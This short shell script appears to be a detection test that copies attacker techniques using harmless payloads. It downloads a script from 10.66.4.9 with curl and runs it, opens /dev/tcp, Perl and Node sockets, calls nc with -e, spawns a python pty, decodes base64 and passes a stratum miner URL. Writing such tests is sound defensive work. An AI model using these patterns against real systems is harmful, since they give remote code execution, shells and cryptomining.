cd /home/kenji
cp /bin/true /tmp/tool; /tmp/tool
cp /bin/true /dev/shm/tool; /dev/shm/tool
cp /bin/true tool; ./tool
cp parts/plain.sh later.sh; sh later.sh
curl -s -o got.sh http://10.66.4.9/plain.sh; sh got.sh
python3 parts/nofile.py
cp /bin/bash worker; ./worker parts/kept.sh
cp /usr/bin/unlink tidy; ./tidy /home/kenji/tidy
bash -c 'exec 3<>/dev/tcp/10.66.4.9/80'
perl -MIO::Socket -e 'IO::Socket::INET->new("10.66.4.9:80")'
node -e 'require("net").connect(80, "10.66.4.9").end()'
ln -s /bin/busybox nc; ./nc -w 1 10.66.4.9 80 -e /bin/true
python3 -c 'import pty; pty.spawn("/bin/true")' < /dev/null
echo cGxhaW4K | base64 -d
/bin/echo -o stratum+tcp://10.66.4.9:3333
